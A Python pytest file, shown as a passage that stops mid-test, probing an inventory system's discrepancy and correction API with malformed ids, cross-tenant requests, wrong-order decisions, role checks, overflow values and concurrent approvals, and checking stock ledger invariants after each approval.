"""The discrepancy endpoints tried from outside, as a POS, a tablet, a store manager and an
attacker would: ids and numbers the other tests have not used, other tenants' ids in paths,
filters and bulk lists, decisions in every wrong order, corrections at the limits and at once.
After every approval the stock invariants hold and the discrepancy's ledger reference names
real rows that posted exactly ``posted_quantity``."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from discrepancies.models import (
    CorrectionRequest,
    CorrectionStatus,
    Discrepancy,
    Status,
    VariancePolicy,
)
from discrepancies.services.corrections import correction_request
from discrepancies.services.decisions import Decision, discrepancies_decide, discrepancy_decide
from inventory.models import DocumentKind, Role, StockLedger
from inventory.stock import documents
from inventory.tenancy.scope import resolve_tenant
from tests.discrepancies.test_api import BASE, build_world, record, refused
from tests.discrepancies.test_api import written as api_written
from tests.discrepancies.test_corrections import (
    ADJUSTMENTS,
    WRITE_OFFS,
    adjust,
    approve,
    checker,  # noqa: F401 - fixture
    line,
    reject,
    stock_state,
    together,
    write_off,
)
from tests.discrepancies.test_corrections import (
    written as corrections_written,
)
from tests.factories import MembershipFactory, ProductFactory, StoreFactory
from tests.stock_helpers import assert_invariants, loc, on_hand, receive, ref

D = Decimal
M, A = Role.MANAGER, Role.ADMIN


@pytest.fixture
def gum(org):
    return ProductFactory(org=org, sku="GUM", unit="each", default_cost=D("2"), category="Edibles")


@pytest.fixture
def sf(store):
    return loc(store, "SF")


@pytest.fixture
def br(store):
    return loc(store, "BR")


@pytest.fixture
def stocked(org, store, gum):
    receive(org, store, gum, 100, lot="A", cost="2.5")
    return gum


@pytest.fixture
def manager(client_for):
    return client_for(M)


@pytest.fixture
def boss(client_for):
    return client_for(A)


def assert_posted(d: Discrepancy) -> None:
    """The discrepancy's ledger reference names real rows that posted ``posted_quantity``."""
    d.refresh_from_db()
    assert d.status == Status.ADJUSTED
    rows = StockLedger.objects.filter(
        ref_type=d.ledger_ref_type, ref_id=d.ledger_ref_id, ref_line=d.ledger_ref_line
    )
    assert rows.exists(), d.ledger_ref_id
    assert sum((r.qty_delta for r in rows), D(0)) == d.posted_quantity
    assert {r.product_id for r in rows} == {d.product_id}
    assert_invariants()


def pending(manager, store, *lines, **extra) -> list[Discrepancy]:
    response = adjust(manager, store, *lines, **extra)
    assert response.status_code == 202, response.content
    ids = [d["id"] for d in response.json()["discrepancies"]]
    return [Discrepancy.objects.get(pk=pk) for pk in ids]


# --- ids in paths ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", ["/-1", "/abc", "/1.5", "/1e3", "/%20", "/9223372036854775807", "/0", "/00"]
)
def test_odd_ids_in_paths_answer_404(org, client_for, path):
    build_world(org)
    admin = client_for(A)
    for suffix in ("", "/approve", "/reject", "/review"):
        method = admin.get if not suffix else admin.post
        response = method(f"{BASE}{path}{suffix}", {}, format="json")
        assert response.status_code in (404, 405), (path, suffix, response.content)
        assert response.json()["code"] in ("not_found", "method_not_allowed")


# --- decisions in the wrong order -------------------------------------------------------------


def test_decisions_in_every_wrong_order_are_409_and_change_nothing(org, store, client_for):
    ids = build_world(org)
    first, second = client_for(M), client_for(M)
    assert first.post(f"{BASE}/{ids['approve']}/approve", {}, format="json").status_code == 200
    # the same person again: the row, unchanged
    assert first.post(f"{BASE}/{ids['approve']}/approve", {}, format="json").status_code == 200
    before = api_written()
    for client, verb in ((second, "approve"), (first, "reject"), (first, "review")):
        refused(
            client.post(f"{BASE}/{ids['approve']}/{verb}", {}, format="json"), 409, "invalid_state"
        )
    assert first.post(f"{BASE}/{ids['reject']}/reject", {}, format="json").status_code == 200
    for client, verb in ((second, "approve"), (first, "approve"), (first, "review")):
        refused(
            client.post(f"{BASE}/{ids['reject']}/{verb}", {}, format="json"), 409, "invalid_state"
        )
    assert api_written() != before  # the reject above
    before = api_written()
    bulk = second.post(
        f"{BASE}/bulk", {"action": "approve", "ids": [ids["approve"], ids["reject"]]}, format="json"
    ).json()
    assert [r["code"] for r in bulk["refused"]] == ["invalid_state", "invalid_state"]
    assert api_written() == before


def test_an_adjusted_correction_cannot_be_approved_or_rejected_again(
    org, store, stocked, sf, manager, boss
):
    (d,) = pending(manager, store, line(stocked, sf, -5))
    assert approve(boss, d.pk).status_code == 200
    assert_posted(d)
    before = stock_state()
    other = MembershipFactory(org=org, role=A).user
    from rest_framework.test import APIClient

    from inventory.tenancy.tokens import api_token_create

    _, key = api_token_create(org=org, user=other, name="t")
    third = APIClient()
    third.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    refused(approve(third, d.pk), 409, "invalid_state")
    refused(reject(third, d.pk), 409, "invalid_state")
    refused(reject(boss, d.pk), 409, "invalid_state")
    assert approve(boss, d.pk).status_code == 200  # a replay of their own approval
    assert stock_state() == before
    assert_posted(d)


@pytest.mark.parametrize("mode", ["set_counted", "keep_difference"])
def test_a_mode_on_a_discrepancy_that_is_not_a_counts_is_refused(org, store, client_for, mode):
    ids = build_world(org)
    manager = client_for(M)
    before = api_written()
    refused(
        manager.post(f"{BASE}/{ids['approve']}/approve", {"mode": mode}, format="json"),
        400,
        "invalid",
        "mode",
    )
    assert api_written() == before
    body = manager.post(
        f"{BASE}/bulk", {"action": "approve", "ids": [ids["bulk"]], "mode": mode}, format="json"
    ).json()
    assert [(r["id"], r["code"]) for r in body["refused"]] == [(ids["bulk"], "invalid")]
    assert api_written() == before


def test_a_mode_on_an_ad_hoc_correction_is_refused(org, store, stocked, sf, manager, boss):
    (d,) = pending(manager, store, line(stocked, sf, -5))
    before = stock_state()
    response = boss.post(f"{BASE}/{d.pk}/approve", {"mode": "set_counted"}, format="json")
    refused(response, 400, "invalid", "mode")
    assert stock_state() == before
    d.refresh_from_db()
    assert d.status == Status.NEW


@pytest.mark.parametrize("notes", ["x" * 100_000, "a\u0000b", "line\x1bcolour", "\x7f"])
def test_ugly_notes_are_refused(org, client_for, notes):
    ids = build_world(org)
    manager = client_for(M)
    before = api_written()
    for verb in ("approve", "reject", "review"):
        response = manager.post(f"{BASE}/{ids[verb]}/{verb}", {"notes": notes}, format="json")
        assert response.status_code == 400, (verb, response.content[:300])
    response = manager.post(
        f"{BASE}/bulk", {"action": "reject", "ids": [ids["bulk"]], "notes": notes}, format="json"
    )
    assert response.status_code == 400
    assert api_written() == before


# --- bulk -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "ids",
    [
        ["1"],
        [1.0],
        [True],
        [None],
        [[1]],
        [{"id": 1}],
        "1,2",
        {"0": 1},
        [-5],
        [10**40],
        ["1e3"],
        ["\u0661"],
    ],
)
def test_bulk_with_odd_ids_is_400_or_refused_per_row(org, client_for, ids):
    build_world(org)
    manager = client_for(M)
    before = api_written()
    response = manager.post(f"{BASE}/bulk", {"action": "review", "ids": ids}, format="json")
    assert response.status_code in (200, 400), response.content
    if response.status_code == 200:
        assert response.json()["decided"] == []
    else:
        assert response.json()["code"] == "invalid"
    assert api_written() == before


def test_bulk_with_5000_duplicates_of_one_id_decides_it_once(org, client_for):
    ids = build_world(org)
    manager = client_for(M)
    response = manager.post(
        f"{BASE}/bulk", {"action": "review", "ids": [ids["bulk"]] * 5000}, format="json"
    )
    assert response.status_code == 200, response.content
    assert response.json()["decided"] == [{"id": ids["bulk"], "status": "UNDER_REVIEW"}]
    refused(
        manager.post(
            f"{BASE}/bulk", {"action": "review", "ids": [ids["bulk"]] * 5001}, format="json"
        ),
        400,
        "invalid",
        "ids",
    )


def test_bulk_mixing_tenants_and_stores_decides_only_what_the_caller_may(
    org, other_org, store, client_for
):
    ours = build_world(org)
    theirs = build_world(other_org, tag="X")
    elsewhere = StoreFactory(org=org, code="ELSE")
    limited = client_for(M, stores=[elsewhere])
    before = api_written()
    body = limited.post(
        f"{BASE}/bulk",
        {"action": "reject", "ids": [ours["bulk"], theirs["bulk"], theirs["approve"]]},
        format="json",
    ).json()
    assert body["decided"] == []
    assert [r["code"] for r in body["refused"]] == ["not_found"] * 3
    assert api_written() == before


# --- roles on every write ---------------------------------------------------------------------


@pytest.mark.parametrize("role", [Role.VIEWER, Role.OPERATOR])
def test_operators_and_viewers_are_refused_every_write(org, store, stocked, sf, client_for, role):
    ids = build_world(org)
    client = client_for(role)
    policy = VariancePolicy.objects.get(org=org, category="")
    writes = [
        ("post", f"{BASE}/{ids['approve']}/approve", {}),
        ("post", f"{BASE}/{ids['reject']}/reject", {}),
        ("post", f"{BASE}/{ids['review']}/review", {}),
        ("post", f"{BASE}/bulk", {"action": "approve", "ids": [ids["bulk"]]}),
        ("post", f"{BASE}/policies", {"category": "X", "units": "1", "percent": "1"}),
        ("put", f"{BASE}/policies/{policy.pk}", {"units": "1", "percent": "1"}),
        ("patch", f"{BASE}/policies/{policy.pk}", {"units": "1"}),
        ("delete", f"{BASE}/policies/{policy.pk}", None),
        (
            "post",
            ADJUSTMENTS,
            {
                "store": store.pk,
                "client_ref": ref(),
                "reason": "x",
                "lines": [line(stocked, sf, 1)],
            },
        ),
        (
            "post",
            WRITE_OFFS,
            {
                "store": store.pk,
                "client_ref": ref(),
                "reason": "x",
                "type": "damage",
                "lines": [line(stocked, sf, 1)],
            },
        ),
    ]
    before = (api_written(), corrections_written(), stock_state())
    for method, path, body in writes:
        response = getattr(client, method)(path, body, format="json")
        refused(response, 403, "permission_denied")
    assert (api_written(), corrections_written(), stock_state()) == before


def test_a_manager_may_not_write_policies(org, client_for):
    manager = client_for(M)
    policy = VariancePolicy.objects.create(org=org, category="", units=1, percent=1)
    refused(
        manager.post(f"{BASE}/policies", {"category": "X", "units": "1", "percent": "1"}),
        403,
        "permission_denied",
    )
    refused(manager.delete(f"{BASE}/policies/{policy.pk}"), 403, "permission_denied")
    assert VariancePolicy.objects.count() == 1


def test_a_store_limited_manager_may_not_correct_another_store(org, store, stocked, sf, client_for):
    other = StoreFactory(org=org, code="S9")
    limited = client_for(M, stores=[other])
    before = (corrections_written(), stock_state())
    # as another organisation's store: 400 naming the store, nothing written
    refused(adjust(limited, store, line(stocked, sf, -1)), 400, "invalid", "store")
    refused(write_off(limited, store, "damage", line(stocked, sf, 1)), 400, "invalid", "store")
    assert (corrections_written(), stock_state()) == before


def test_a_store_limited_manager_may_not_decide_another_stores_correction(
    org, store, stocked, sf, manager, client_for
):
    (d,) = pending(manager, store, line(stocked, sf, -5))
    other = StoreFactory(org=org, code="S9")
    limited = client_for(M, stores=[other])
    before = stock_state()
    for verb in ("approve", "reject", "review"):
        refused(limited.post(f"{BASE}/{d.pk}/{verb}", {}, format="json"), 404, "not_found")
    refused(limited.get(f"{BASE}/{d.pk}"), 404, "not_found")
    assert stock_state() == before


# --- analytics --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query,field",
    [
        ("from=2026-03-01&to=2026-02-28", "to"),
        ("from=1976-01-01&to=2026-01-01", "to"),
        ("from=2026-02-30&to=2026-03-01", "from"),
        ("from=&to=2026-01-02", "from"),
        ("from=2026-01-01T00:00:00Z&to=2026-01-02", "from"),
        ("from=2026-01-01&to=2026-01-02&top=-1", "top"),
        ("from=2026-01-01&to=2026-01-02&top=99999999999999999999999", "top"),
        ("from=2026-01-01&to=2026-01-02&top=1.5", "top"),
        ("from=2026-01-01&to=2026-01-02&store=-3", "store"),
        ("from=2026-01-01&to=2026-01-02&store=99999999999999999999999", "store"),
        ("from=10000-01-01&to=10000-01-02", "from"),
        ("from=2026-01-01%00&to=2026-01-02", "from"),
    ],
)
def test_odd_analytics_queries_are_400(org, client_for, query, field):
    refused(client_for(A).get(f"{BASE}/analytics?{query}"), 400, "invalid", field)


@pytest.mark.parametrize(
    "query",
    [
        "from=9998-12-01&to=9998-12-31",
        "from=1970-01-01&to=1970-01-31",
        "from=2026-01-01&to=2026-01-01&top=100",
    ],
)
def test_analytics_at_the_edges_answer(org, store, client_for, query):
    response = client_for(A).get(f"{BASE}/analytics?{query}")
    assert response.status_code == 200, response.content
    csv_answer = client_for(A).get(f"{BASE}/analytics?{query}&format=csv")
    assert csv_answer.status_code == 200, csv_answer.content


def test_analytics_csv_of_a_store_limited_manager_shows_its_stores_only(
    org, other_org, store, client_for
):
    ours = build_world(org)  # in store W
    second = StoreFactory(org=org, code="S2")
    product = ProductFactory(org=org, sku="SECRET-SKU")
    record(org, second, product)
    build_world(other_org, tag="X")
    limited = client_for(M, stores=[second])
    from django.utils import timezone

    today = timezone.now().date().isoformat()
    response = limited.get(f"{BASE}/analytics?from={today}&to={today}&format=csv")
    assert response.status_code == 200, response.content
    text = response.content.decode()
    assert "WORLD" not in text and "SECRET-SKU" in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    refused(
        limited.get(f"{BASE}/analytics?from={today}&to={today}&store={ours['store']}&format=csv"),
        404,
        "not_found",
    )


def test_analytics_with_another_orgs_store_is_404(org, other_org, client_for):
    theirs = build_world(other_org, tag="X")
    refused(
        client_for(A).get(
            f"{BASE}/analytics?from=2026-01-01&to=2026-01-02&store={theirs['store']}"
        ),
        404,
        "not_found",
    )


# --- list filters -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query,field",
    [
        ("store=-1", "store"),
        ("store=99999999999999999999", "store"),
        ("product=1.5", "product"),
        ("status=NEW,", "status.1"),
        ("status=new", "status.0"),
        ("created_from=2026-02-30T00:00:00Z", "created_from"),
        ("created_from=2026-01-02T00:00:00Z&created_to=2026-01-01T00:00:00Z", "created_to"),
        ("search=" + "x" * 201, "search"),
        ("ordering=-value", "ordering"),
    ],
)
def test_odd_list_filters_are_400(org, client_for, query, field):
    refused(client_for(M).get(f"{BASE}?{query}"), 400, "invalid", field)


@pytest.mark.parametrize("query", ["page=0", "page=abc", "page=99999999999999999999", "page=-1"])
def test_odd_pages_are_4xx(org, client_for, query):
    build_world(org)
    response = client_for(M).get(f"{BASE}?{query}")
    assert 400 <= response.status_code < 500, response.content


def test_search_with_like_wildcards_matches_them_literally(org, client_for):
    build_world(org)
    manager = client_for(M)
    for text in ("%", "_", "\\"):
        response = manager.get(f"{BASE}?search={text}")
        assert response.status_code == 200
        assert response.json()["results"] == [], text


# --- policies ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body,field",
    [
        ({"category": "X", "units": "-0.0001", "percent": "1"}, "units"),
        ({"category": "X", "units": "100000000000000", "percent": "1"}, "units"),
        ({"category": "X", "units": "1", "percent": "100.001"}, "percent"),
        ({"category": "X", "units": "1", "percent": "-0"}, None),
        ({"category": "X", "units": "1", "percent": "1", "value": "10000000000"}, "value"),
        ({"category": "X", "units": "1", "percent": "1", "value": "0.00001"}, "value"),
        ({"category": "X\u0000", "units": "1", "percent": "1"}, "category"),
        ({"category": "X\nY", "units": "1", "percent": "1"}, "category"),
        ({"category": "X" * 121, "units": "1", "percent": "1"}, "category"),
        ({"category": "X", "units": "NaN", "percent": "1"}, "units"),
        ({"category": "X", "units": "Infinity", "percent": "1"}, "units"),
    ],
)
def test_odd_policies_are_refused(org, client_for, body, field):
    admin = client_for(A)
    response = admin.post(f"{BASE}/policies", body, format="json")
    if field is None:
        assert response.status_code in (201, 400), response.content
        return
    refused(response, 400, "invalid", field)
    assert not VariancePolicy.objects.exists()


def test_a_duplicate_category_is_409_however_it_arrives(org, client_for):
    admin = client_for(A)
    first = admin.post(
        f"{BASE}/policies", {"category": "Edibles", "units": "1", "percent": "1"}, format="json"
    )
    assert first.status_code == 201
    other = admin.post(
        f"{BASE}/policies", {"category": "Flower", "units": "1", "percent": "1"}, format="json"
    )
    refused(
        admin.post(
            f"{BASE}/policies", {"category": "Edibles", "units": "2", "percent": "2"}, format="json"
        ),
        409,
        "duplicate",
        "category",
    )
    refused(
        admin.patch(
            f"{BASE}/policies/{other.json()['id']}", {"category": "Edibles"}, format="json"
        ),
        409,
        "duplicate",
        "category",
    )
    assert sorted(VariancePolicy.objects.values_list("category", flat=True)) == [
        "Edibles",
        "Flower",
    ]


def test_deleting_the_default_policy_falls_back_to_the_platform(
    org, store, stocked, sf, client_for, manager
):
    admin = client_for(A)
    default = admin.post(
        f"{BASE}/policies", {"category": "", "units": "50", "percent": "0"}, format="json"
    ).json()
    assert admin.delete(f"{BASE}/policies/{default['id']}").status_code == 204
    refused(admin.delete(f"{BASE}/policies/{default['id']}"), 404, "not_found")
    # the platform's 1 unit or 2%: 5 of 100 waits
    assert adjust(manager, store, line(stocked, sf, -5)).status_code == 202


# --- corrections at the limits ----------------------------------------------------------------


def test_an_adjustment_worth_more_than_a_value_can_hold_is_400_not_500(
    org, store, sf, manager, boss
):
    """A billion units of a 100-dollar product: the discrepancy's value (variance × cost) does
    not fit its column. It was a 500 (numeric overflow) after the request was judged."""
    dear = ProductFactory(org=org, sku="DEAR", unit="each", default_cost=D("100"))
    before = (stock_state(), corrections_written())
    for client in (manager, boss):
        response = adjust(client, store, line(dear, sf, "1000000000"), reason="found a warehouse")
        body = refused(response, 400, "invalid", "lines.0.quantity")
        assert list(body["fields"]) == ["lines.0.quantity"]
    response = write_off(manager, store, "damage", line(dear, sf, 1), line(dear, sf, "1000000000"))
    refused(response, 400, "invalid", "lines.1.quantity")
    assert (stock_state(), corrections_written()) == before


def test_recording_a_finding_worth_too_much_is_refused_not_a_database_error(org, store):
    from core.errors import ValidationFailed
    from discrepancies.models import DocumentType, Kind, Source
    from discrepancies.services.record import Finding, discrepancies_record

    product = ProductFactory(org=org, sku="HUGE", default_cost=D("1000"))
    finding = Finding(
        store_id=store.pk,
        product_id=product.pk,
        category="",
        expected=D("0"),
        actual=D("100000000"),
        unit_cost=D("1000"),
        source=Source.INVARIANT,
        kind=Kind.DATA_ERROR,
        document_type=DocumentType.INVARIANT_CHECK,
        corrective=False,
    )
    with pytest.raises(ValidationFailed) as error:
        discrepancies_record(org=org, findings=[finding], actor=None)
    assert "value" in error.value.fields
    assert not Discrepancy.objects.exists()


def test_an_adjustment_at_the_maximum_quantity_with_a_cheap_product_posts_on_approval(
    org, store, sf, manager, boss
):
    cheap = ProductFactory(org=org, sku="CHEAP", unit="each", default_cost=D("1"))
    response = adjust(manager, store, line(cheap, sf, "1000000000"), reason="found a warehouse")
    assert response.status_code == 202, response.content
    d = Discrepancy.objects.get()
    assert approve(boss, d.pk).status_code == 200
    assert_posted(d)
    assert on_hand(cheap) == D("1000000000")


@pytest.mark.parametrize(
    "make_line,field,code",
    [
        (lambda w: line(w.gum, w.sf, "0.0001"), "lines.0.quantity", "fractional_quantity"),
        (lambda w: line(w.gum, w.sf, "1000000000.0001"), "lines.0.quantity", "invalid"),
        (lambda w: line(w.gum, w.sf, "-1000000001"), "lines.0.quantity", "invalid"),
        (lambda w: line(w.gum, w.other_store_sf, 1), "lines.0.location", "unknown_location"),
        (
            lambda w: {"barcode": "0000000000000", "location": w.sf.pk, "quantity": "1"},
            "lines.0",
            None,
        ),
        (
            lambda w: {"barcode": "4006381333931", "location": w.sf.pk, "quantity": "1"},
            "lines.0",
            None,
        ),
        (lambda w: line(w.archived, w.sf, 1), "lines.0.product", "inactive_product"),
        (lambda w: line(w.gum, w.sf, -1, lot_code="OTHER-LOT"), "lines.0", None),
    ],
)
def test_odd_correction_lines_are_refused_and_write_nothing(
    org, store, stocked, sf, manager, make_line, field, code
):
    w = type("W", (), {})()
    w.gum, w.sf = stocked, sf
    w.other_store_sf = loc(StoreFactory(org=org, code="S8"), "SF")
    w.archived = ProductFactory(org=org, sku="OLD", unit="each", is_active=False)
    other = ProductFactory(org=org, sku="OTHER", unit="each")
    receive(org, store, other, 5, lot="OTHER-LOT", cost="1")
    before = (stock_state(), corrections_written())
    response = adjust(manager, store, make_line(w))
    assert 400 <= response.status_code < 500, response.content
    body = response.json()
    assert any(k.startswith(field) for k in body["fields"]), body
    if code:
        assert body["code"] == code, body
    assert (stock_state(), corrections_written()) == before


def test_a_negative_write_off_line_is_refused(org, store, stocked, sf, manager):
    before = (stock_state(), corrections_written())
    response = write_off(manager, store, "damage", line(stocked, sf, 1), line(stocked, sf, -1))
    refused(response, 400, "invalid", "lines.1.quantity")
    assert (stock_state(), corrections_written()) == before


def test_a_replay_with_a_changed_body_is_409_for_a_pending_request(
    org, store, stocked, sf, br, manager
):
    (d,) = pending(manager, store, line(stocked, sf, -5), client_ref="same")
    before = (stock_state(), corrections_written())
    for changed in (
        {"lines": [line(stocked, sf, -6)]},
        {"lines": [line(stocked, br, 5)]},
        {"reason": "another reason"},
        {"type": "THEFT"},
    ):
        body = {
            "store": store.pk,
            "client_ref": "same",
            "reason": "count: missing",
            "lines": [line(stocked, sf, -5)],
            **changed,
        }
        refused(manager.post(ADJUSTMENTS, body, format="json"), 409, "idempotency_conflict")
    same = adjust(manager, store, line(stocked, sf, -5), client_ref="same")
    assert same.status_code == 202
    assert (stock_state(), corrections_written()) == before


def test_approval_of_a_write_off_whose_stock_is_gone_is_refused_cleanly(
    org, store, stocked, sf, manager, boss
):
    response = write_off(manager, store, "damage", line(stocked, sf, 30))
    assert response.status_code == 202, response.content
    d = Discrepancy.objects.get()
    documents.write_off_record(
        org=org,
        store=store,
        lines=[documents.WriteOffLineInput(stocked, sf, D(90))],
        write_off_type="waste",
        client_ref=ref(),
        reason="flood",
    )
    before = stock_state()
    refused(approve(boss, d.pk), 409, "insufficient_stock")
    assert stock_state() == before
    d.refresh_from_db()
    assert d.status == Status.NEW and d.ledger_ref_id is None
    assert on_hand(stocked) == 10
    assert_invariants()


def test_approval_of_a_correction_whose_product_was_archived_is_refused_cleanly(
    org, store, stocked, sf, manager, boss
):
    (d,) = pending(manager, store, line(stocked, sf, -5))
    type(stocked).objects.filter(pk=stocked.pk).update(is_active=False)
    before = stock_state()
    response = approve(boss, d.pk)
    assert 400 <= response.status_code < 500, response.content
    assert stock_state() == before
    d.refresh_from_db()
    assert d.status == Status.NEW


def test_a_lot_of_a_pending_shortage_emptied_meanwhile_is_refused_cleanly(
    org, store, gum, sf, manager, boss
):
    receive(org, store, gum, 40, lot="L1", cost="2")
    receive(org, store, gum, 60, lot="L2", cost="2")
    (d,) = pending(manager, store, line(gum, sf, -20, lot_code="L1"))
    documents.write_off_record(
        org=org,
        store=store,
        lines=[documents.WriteOffLineInput(gum, sf, D(30), lot_code="L1")],
        write_off_type="waste",
        client_ref=ref(),
        reason="flood",
    )
    before = stock_state()
    refused(approve(boss, d.pk), 409, "insufficient_stock")
    assert stock_state() == before
    assert on_hand(gum) == 70
    assert_invariants()


def test_both_lines_of_a_request_approved_by_two_admins_post_once_each(
    org, store, stocked, sf, br, manager, client_for
):
    first, second = pending(
        manager, store, line(stocked, sf, -30), line(stocked, br, 40), reason="recount"
    )
    one, two = client_for(A), client_for(A)
    assert approve(one, first.pk).status_code == 200
    assert one.post(
        f"{BASE}/bulk", {"action": "approve", "ids": [first.pk, second.pk]}, format="json"
    ).json()["unchanged"] == [{"id": first.pk, "status": "ADJUSTED"}]
    refused(approve(two, first.pk), 409, "invalid_state")
    assert_posted(first)
    assert_posted(second)
    assert on_hand(stocked) == 110
    assert CorrectionRequest.objects.get().status == CorrectionStatus.DECIDED


# --- at once, against PostgreSQL -------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_two_admins_approving_the_lines_of_one_request_at_once_post_once_per_line(org, store, gum):
    receive(org, store, gum, 100, cost="2")
    clerk = MembershipFactory(org=org, role=Role.MANAGER).user
    admins = [MembershipFactory(org=org, role=Role.ADMIN).user for _ in range(2)]
    answer = correction_request(
        org=org,
        store=store,
        kind=DocumentKind.ADJUSTMENT,
        lines=[
            documents.AdjustmentLineInput(gum, loc(store, "SF"), D(-30)),
            documents.AdjustmentLineInput(gum, loc(store, "BR"), D(50)),
        ],
        client_ref="two-lines",
        reason="count",
        tenant=resolve_tenant(clerk, org_id=org.pk),
        actor=clerk,
    )
    ids = [d.pk for d in answer.discrepancies]

    def approver(user, chosen):
        def work():
            tenant = resolve_tenant(user, org_id=org.pk)
            return discrepancies_decide(
                org=org, ids=chosen, decision=Decision("approve"), tenant=tenant, actor=user
            )

        return work

    results = together(org, [approver(admins[0], ids), approver(admins[1], [ids[1], ids[0]])])
    assert [error for _, error in results] == [None, None], results
    for pk in ids:
        assert StockDocument_count(f"discrepancy-{pk}") == 1
        assert_posted(Discrepancy.objects.get(pk=pk))
    assert on_hand(gum) == 120
    assert CorrectionRequest.objects.get().status == CorrectionStatus.DECIDED


def StockDocument_count(client_ref: str) -> int:  # noqa: N802
    from inventory.models import StockDocument

    return StockDocument.objects.filter(client_ref=client_ref).count()


@pytest.mark.django_db(transaction=True)
def test_two_requests_under_one_client_ref_at_once_make_one_and_a_conflict(org, store, gum):
    receive(org, store, gum, 100, cost="2")
    manager = MembershipFactory(org=org, role=Role.MANAGER).user

    def request(quantity):
        def work():
            return correction_request(
                org=org,
                store=store,
                kind=DocumentKind.ADJUSTMENT,
                lines=[documents.AdjustmentLineInput(gum, loc(store, "SF"), D(quantity))],
                client_ref="contested",
                reason="count",
                tenant=resolve_tenant(manager, org_id=org.pk),
                actor=manager,
            )

        return work

    results = together(org, [request("-1"), request("-2")])
    errors = [error for _, error in results if error is not None]
    assert len(errors) == 1 and errors[0].code == "idempotency_conflict", results
    assert CorrectionRequest.objects.count() == 1 and Discrepancy.objects.count() == 1
    assert on_hand(gum) in (D(99), D(98))
    assert_invariants()


@pytest.mark.django_db(transaction=True)
def test_two_identical_http_requests_at_once_post_once(org, store, gum, client_for):
    receive(org, store, gum, 100, cost="2")
    from rest_framework.test import APIClient

    from inventory.tenancy.tokens import api_token_create

    membership = MembershipFactory(org=org, role=Role.MANAGER)
    _, key = api_token_create(org=org, user=membership.user, name="tablet")
    body = {
        "store": store.pk,
        "client_ref": "tablet-1",
        "reason": "count",
        "lines": [line(gum, loc(store, "SF"), -1)],
    }

    def post():
        client = APIClient()
        client.credentials(HTTP_AUTHORIZATION=f"Token {key}")
        response = client.post(ADJUSTMENTS, body, format="json")
        return response.status_code, response.json()

    results = together(org, [post, post, post])
    statuses = sorted(status for (status, _), _ in results)
    assert statuses == [200, 200, 201], results
    assert len({answer["id"] for (_, answer), _ in results}) == 1
    assert on_hand(gum) == 99
    assert_invariants()


def test_a_decision_through_the_service_with_a_mode_on_an_informational_one_is_refused(
    org, store, client_for
):
    ids = build_world(org)
    manager = client_for(M)
    tenant = resolve_tenant(manager.user, org_id=org.pk)
    with pytest.raises(Exception) as error:
        discrepancy_decide(
            org=org,
            discrepancy=ids["approve"],
            decision=Decision("approve", mode="set_counted"),
            tenant=tenant,
            actor=manager.user,
        )
    assert error.value.code == "invalid" and "mode" in error.value.fields


# --- a correction split into small lines ------------------------------------------------------


def test_a_correction_split_into_small_lines_is_judged_as_a_whole(org, store, stocked, sf, manager):
    """Ten lines of -2 at one place are one correction of -20: not within the platform's
    1 unit or 2% (it was: each line alone is, and the whole posted without anyone's
    approval — fifty such lines emptied the shelf)."""
    before = stock_state()
    response = adjust(manager, store, *[line(stocked, sf, -2) for _ in range(10)])
    assert response.status_code == 202, response.content
    assert stock_state() == before
    assert {d["within_policy"] for d in response.json()["discrepancies"]} == {False}
    response = write_off(manager, store, "damage", *[line(stocked, sf, 2) for _ in range(50)])
    assert response.status_code == 202, response.content
    assert stock_state() == before
    assert on_hand(stocked) == 100


def test_lines_of_one_product_at_several_places_are_judged_by_the_store_drop(
    org, store, gum, sf, br, manager
):
    """The 20% rule is the product's drop at the store: -15 here and -15 there of 100 is 30%."""
    VariancePolicy.objects.create(org=org, category="", units=20, percent=0)
    receive(org, store, gum, 50, location="SF", cost="1")
    receive(org, store, gum, 50, location="BR", cost="1")
    response = adjust(manager, store, line(gum, sf, -15), line(gum, br, -15))
    assert response.status_code == 202, response.content
    assert on_hand(gum) == 100
    # each alone is within policy
    assert adjust(manager, store, line(gum, sf, -15)).status_code == 201
    assert on_hand(gum) == 85


def test_lines_taking_more_than_the_place_holds_together_are_refused_at_once(
    org, store, stocked, sf, manager
):
    before = (stock_state(), corrections_written())
    response = adjust(manager, store, line(stocked, sf, -60), line(stocked, sf, -60))
    refused(response, 409, "insufficient_stock")
    assert (stock_state(), corrections_written()) == before


# --- batch 2 (probes) -------------------------------------------------------------------------


def test_a_client_ref_naming_an_approvals_document_does_not_block_the_approval(
    org, store, stocked, sf, manager, client_for, boss
):
    """Approval posts its line under ``discrepancy-<id>``; a device that sent that client_ref
    first made the approval impossible (409 idempotency_conflict, forever). The prefix is
    reserved: such a request is 400 naming client_ref, and nothing is written."""
    (d,) = pending(manager, store, line(stocked, sf, -5))
    squatter = client_for(M)
    before = (stock_state(), corrections_written())
    for send in (
        lambda ref_: adjust(squatter, store, line(stocked, sf, -1), client_ref=ref_),
        lambda ref_: write_off(squatter, store, "damage", line(stocked, sf, 1), client_ref=ref_),
    ):
        for client_ref in (f"discrepancy-{d.pk}", f"discrepancy-{d.pk + 1}"):
            refused(send(client_ref), 400, "invalid", "client_ref")
    assert (stock_state(), corrections_written()) == before
    assert adjust(squatter, store, line(stocked, sf, -1), client_ref="Discrepancy-x").status_code
    response = approve(boss, d.pk)
    assert response.status_code == 200, response.content
    assert_posted(d)


@pytest.mark.parametrize("mode", ["warn", "record"])
def test_approval_after_the_stock_went_never_posts_a_negative(
    org, store, stocked, sf, manager, boss, mode
):
    type(org).objects.filter(pk=org.pk).update(negative_stock_mode=mode)
    (d,) = pending(manager, store, line(stocked, sf, -30))
    documents.write_off_record(
        org=org,
        store=store,
        lines=[documents.WriteOffLineInput(stocked, sf, D(90))],
        write_off_type="waste",
        client_ref=ref(),
        reason="flood",
    )
    response = approve(boss, d.pk)
    if response.status_code == 200:
        assert_posted(d)
    else:
        refused(response, 409, "insufficient_stock")
        assert on_hand(stocked) == 10
    assert_invariants()


def test_approval_after_the_location_was_archived_is_refused_cleanly(
    org, store, stocked, sf, manager, boss
):
    (d,) = pending(manager, store, line(stocked, sf, -5))
    type(sf).objects.filter(pk=sf.pk).update(is_active=False)
    before = stock_state()
